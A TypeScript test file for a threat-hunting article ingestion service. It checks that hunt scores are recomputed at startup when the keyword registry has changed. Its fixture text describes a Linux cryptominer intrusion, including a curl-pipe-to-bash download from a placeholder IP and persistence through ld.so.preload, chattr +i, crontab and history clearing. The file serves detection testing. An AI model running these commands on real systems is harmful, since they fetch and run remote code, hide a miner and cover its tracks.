import { HUNT_REGISTRY_FINGERPRINT, scoreHunt } from '@huntforge/scoring';
import { createArticle } from '@huntforge/service-testing';
import { ingestArticle } from '../use-cases/ingest-article/ingest-article';
import { startIngestion, type IngestionHarness } from '../test-support/ingestion-harness';

// Our own text: a Linux intrusion an older, Windows-only keyword registry scored about 15.
const LINUX_INTRUSION =
  'The miner was fetched with curl -fsSL http://203.0.113.9/i.sh | bash, copied to /dev/shm/.x, pinned with chattr +i, ' +
  'listed in /etc/ld.so.preload and restarted every minute from /etc/crontab; the operator ran history -c before leaving.';

describe('hunt scores of an older keyword registry are computed again at start', () => {
  let h: IngestionHarness;
  beforeAll(async () => {
    // Started again by the tests, as a restart would: jobs are not registered twice.
    h = await startIngestion({ registerJobs: false });
  });
  afterAll(() => h?.close());

  const row = (id: number) => h.ctx.db.prisma.article.findUniqueOrThrow({ where: { id } });

  it('records the registry with each score it writes, so a start finds nothing to do', async () => {
    const created = await ingestArticle(h.module.ports, {
      sourceId: await h.sourceId('manual'),
      url: 'https://lab.example/linux-miner',
      title: 'Linux miner',
      content: LINUX_INTRUSION,
      publishedAt: null,
    });
    if (created.outcome !== 'created') throw new Error('expected a new article');
    expect((await row(created.articleId)).metadata).toMatchObject({ hunt_registry: HUNT_REGISTRY_FINGERPRINT });
    const before = (await row(created.articleId)).huntScore;
    await h.module.start();
    expect((await row(created.articleId)).huntScore).toBe(before);
  });

  it('scores articles stored before the registry was recorded, or with another one, and keeps the rest of their metadata', async () => {
    const unrecorded = await createArticle(h.ctx.db.prisma, {
      title: 'Linux miner, stored by an older release',
      content: LINUX_INTRUSION,
      huntScore: 14.9,
      keywordMatches: { perfect: [] },
      metadata: { content_length: LINUX_INTRUSION.length, feed: 'lab' },
    });
    const older = await createArticle(h.ctx.db.prisma, {
      content: `${LINUX_INTRUSION} Again.`,
      huntScore: 3,
      metadata: { hunt_registry: 'an-older-registry' },
    });
    await h.module.start();

    const expected = scoreHunt(`Linux miner, stored by an older release\n${LINUX_INTRUSION}`);
    expect(expected.score).toBeGreaterThan(60);
    const rescored = await row(unrecorded.id);
    expect(rescored.huntScore).toBe(expected.score);
    expect((rescored.keywordMatches as Record<string, string[]>)['perfect']).toEqual(expected.tiers.perfect.matched);
    expect(rescored.metadata).toMatchObject({
      content_length: LINUX_INTRUSION.length,
      feed: 'lab',
      hunt_registry: HUNT_REGISTRY_FINGERPRINT,
      hunt_score_points: { perfect: expected.tiers.perfect.points },
    });
    expect((await row(older.id)).huntScore).toBeGreaterThan(60);
    // The article page shows the new breakdown.
    const detail = (await h.http.get(`/api/articles/${unrecorded.id}`).expect(200)).body;
    expect(detail.hunt_score).toBe(expected.score);
    expect(detail.hunt_score_breakdown.tiers.perfect.matched).toEqual(expect.arrayContaining(['/etc/ld.so.preload', 'chattr +i']));
  });
});
